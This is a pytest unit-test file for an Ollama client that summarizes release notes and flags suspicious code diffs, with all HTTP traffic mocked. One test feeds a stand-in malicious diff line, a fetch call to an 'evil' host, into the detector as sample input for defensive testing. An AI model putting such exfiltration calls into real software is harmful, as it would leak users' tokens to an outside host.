"""
Unit tests for the Ollama AI backend client.
"""

import json

import httpx
import pytest

from updates.ollama_client import AIBackendError, OllamaClient


def make_client(handler, **kwargs):
    client = OllamaClient(endpoint='http://ollama:11434/', model='llama3', num_ctx=4096, **kwargs)
    client.http_client = httpx.AsyncClient(transport=httpx.MockTransport(handler))
    return client


def answer(payload):
    return httpx.Response(200, json={'response': json.dumps(payload)})


class TestOllamaClient:
    def test_readiness(self):
        assert not OllamaClient(endpoint='', model='').is_ready()
        assert OllamaClient(endpoint='http://ollama:11434', model='llama3').is_ready()

    def test_chunk_budget(self):
        assert OllamaClient(endpoint='x', model='y', num_ctx=4096).max_chunk_chars == 8192
        assert OllamaClient(endpoint='x', model='y', num_ctx=100).max_chunk_chars == 1000

    @pytest.mark.asyncio
    async def test_summarize(self):
        requests = []

        def handler(request):
            requests.append((request.url.path, json.loads(request.content)))
            return answer({'summary': 'Bug fixes', 'breaking': True})

        client = make_client(handler)
        result = await client.summarize("Fixed the thing")

        assert result.summary == 'Bug fixes'
        assert result.breaking is True
        path, payload = requests[0]
        assert path == '/api/generate'
        assert payload['model'] == 'llama3'
        assert payload['format'] == 'json'
        assert payload['options'] == {'num_ctx': 4096}
        assert "Fixed the thing" in payload['prompt']
        await client.close()

    @pytest.mark.asyncio
    async def test_analyze_diff(self):
        client = make_client(lambda request: answer({'analysis': 'Sends tokens to a new host',
                                                     'isSuspectedMalicious': True}))

        result = await client.analyze_diff("+ fetch('http://evil')")

        assert result.suspected_malicious is True
        assert result.analysis == 'Sends tokens to a new host'
        await client.close()

    @pytest.mark.asyncio
    @pytest.mark.parametrize("response", [
        httpx.Response(500),
        httpx.Response(200, json={'response': 'not json'}),
        httpx.Response(200, json={'response': json.dumps({'unexpected': 1})}),
    ])
    async def test_unusable_answers(self, response):
        client = make_client(lambda request: response)

        with pytest.raises(AIBackendError):
            await client.summarize("notes")
        await client.close()
